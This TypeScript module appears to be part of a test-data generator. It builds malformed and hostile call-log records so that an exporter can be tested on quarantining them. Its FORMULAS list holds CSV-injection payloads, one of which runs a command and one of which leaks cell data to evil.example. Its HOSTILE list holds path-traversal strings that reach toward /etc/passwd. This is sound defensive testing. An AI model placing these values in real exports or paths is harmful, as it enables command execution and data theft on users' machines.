/**
 * Odd records: call logs in shapes the vendor's spec allows (every field optional, docs/api-notes.md "Field
 * semantics": `false`/`null`/`""` for empty values, fields added over time) or that a flaky
 * backend can produce, plus a few really broken ones that an exporter must quarantine, not crash
 * on. Which call is odd, and how, depends only on `(seed, index)`, on its own PRNG stream, so
 * turning the option on never changes the normal calls.
 */
import type { OddShape } from './options.js';
import { int, pick, rngFor } from './prng.js';

/** Every odd shape, in a fixed order (the default list drawn from). */
export const ODD_SHAPES: readonly OddShape[] = [
  'missing-fields',
  'null-objects',
  'interactions-false',
  'numbers-as-strings',
  'huge-transcript',
  'unknown-nested',
  'formula-text',
  'id-as-string',
  'hostile-paths',
  'no-id',
  'not-an-object',
];

/** Shapes an exporter cannot turn into rows: they must be quarantined with a reason. */
export const BROKEN_ODD_SHAPES: readonly OddShape[] = ['no-id', 'not-an-object'];

/** PRNG stream of odd-record choices (0 and 1 are the generator's meta and body streams). */
const ODD_STREAM = 2;

/** Resolved odd-record settings. */
export interface OddRecordSettings {
  rate: number;
  shapes: readonly OddShape[];
  hugeTranscriptBytes: number;
}

/**
 * The odd shape of call #`index` under `seed`, or null for a normal call.
 *
 * @example
 * oddShapeFor(1, 42, { rate: 0.1, shapes: ODD_SHAPES, hugeTranscriptBytes: 200_000 }); // null or a shape
 */
export function oddShapeFor(seed: number, index: number, settings: OddRecordSettings): OddShape | null {
  if (settings.rate <= 0) return null;
  const rng = rngFor(seed, index, ODD_STREAM);
  if (rng() >= settings.rate) return null;
  return pick(rng, settings.shapes);
}

/** Spreadsheet formula prefixes (CSV injection): a CSV viewer would run these. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
];

/** Values of path-like fields that try to climb out of an output directory. */
const HOSTILE = [
  '../../../../tmp/omnidim-escape',
  '..\\..\\..\\windows\\escape',
  '/etc/passwd',
  'date=2025-01-01/../../escape',
];

/**
 * Returns call log `log` in shape `shape` (mutates and returns it, or returns a non-object for
 * 'not-an-object'). `seed`/`index` seed the choices, so the same call is always odd the same way.
 *
 * @example
 * const odd = applyOddShape(generateCallLog(1, 5), 'interactions-false', 1, 5, 200_000);
 * odd.interactions; // false
 */
export function applyOddShape(
  log: Record<string, unknown>,
  shape: OddShape,
  seed: number,
  index: number,
  hugeTranscriptBytes: number,
): unknown {
  const rng = rngFor(seed, index, ODD_STREAM + 1);
  switch (shape) {
    case 'missing-fields':
      // Every field is optional in the vendor's spec; drop a seeded handful, time_of_call included.
      for (const key of [
        'time_of_call',
        'call_status',
        'bot_name',
        'call_duration_in_seconds',
        'extracted_variables',
      ])
        if (rng() < 0.6) delete log[key];
      delete log['post_call_actions'];
      delete log['call_request_id'];
      return log;
    case 'null-objects':
      log['post_call_actions'] = null;
      log['call_request_id'] = null;
      log['extracted_variables'] = null;
      log['json_evolution_matrix_score'] = null;
      log['interactions'] = rng() < 0.5 ? null : [null, { id: null, interaction_sequence: null }];
      return log;
    case 'interactions-false':
      log['interactions'] = false;
      log['post_call_actions'] = false;
      return log;
    case 'numbers-as-strings':
      for (const key of ['call_duration_in_seconds', 'cqs_score', 'total_tokens', 'call_cost', 'p50_latency'])
        log[key] = String(log[key] ?? 0);
      for (const turn of arrayOf(log['interactions'])) {
        turn['total_tokens'] = String(turn['total_tokens']);
        turn['llm2_time'] = String(turn['llm2_time']);
        turn['interaction_sequence'] = String(turn['interaction_sequence']);
      }
      return log;
    case 'huge-transcript': {
      // NUL, emoji (surrogate pairs), CR/LF and quotes, repeated to the requested size.
      const unit = 'user: héllo\u0000 "quoted", 😀🎉 line\r\nLLM: ok <br/> ';
      const text = unit.repeat(Math.ceil(hugeTranscriptBytes / Buffer.byteLength(unit)));
      log['call_conversation'] = text;
      const turns = arrayOf(log['interactions']);
      if (turns[0]) turns[0]['bot_response'] = text.slice(0, 5_000);
      return log;
    }
    case 'unknown-nested':
      log['x_new_feature'] = { version: int(rng, 1, 9), flags: [{ on: true, tags: ['a', 'b'] }], nested: {} };
      log['x_list_of_lists'] = [[1, 2], [], [{ deep: { deeper: 'value' } }]];
      for (const turn of arrayOf(log['interactions'])) turn['x_emotion'] = { label: 'calm', score: 0.8 };
      for (const hook of webhooksOf(log)) hook['x_retry_policy'] = { attempts: 3, backoff: [1, 2, 4] };
      return log;
    case 'formula-text':
      log['user_name'] = pick(rng, FORMULAS);
      log['sentiment_analysis_details'] = pick(rng, FORMULAS);
      log['organization_branch_name'] = FORMULAS[0];
      for (const turn of arrayOf(log['interactions'])) turn['user_query'] = pick(rng, FORMULAS);
      if (isObject(log['extracted_variables'])) log['extracted_variables']['note'] = FORMULAS[1];
      return log;
    case 'id-as-string':
      log['id'] = String(log['id']);
      return log;
    case 'hostile-paths':
      log['bot_name'] = pick(rng, HOSTILE);
      log['organization_branch_name'] = '../../escape';
      log['channel_type'] = '../../../escape';
      log['call_status'] = '..';
      // Not a parseable MM/DD/YYYY: the partition date must never be built from raw text.
      log['time_of_call'] = `01/02/2025 10:00:00/../../../../escape`;
      for (const hook of webhooksOf(log)) hook['name'] = '../../../escape';
      return log;
    case 'no-id':
      delete log['id'];
      return log;
    case 'not-an-object':
      return pick(rng, [
        null,
        'call log unavailable',
        [log['id'], log['time_of_call']],
        Number(log['id']),
      ] as const);
  }
}

function isObject(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

function arrayOf(value: unknown): Record<string, unknown>[] {
  return Array.isArray(value) ? value.filter(isObject) : [];
}

function webhooksOf(log: Record<string, unknown>): Record<string, unknown>[] {
  const actions = log['post_call_actions'];
  return isObject(actions) ? arrayOf(actions['call_recording_webhook_ids']) : [];
}
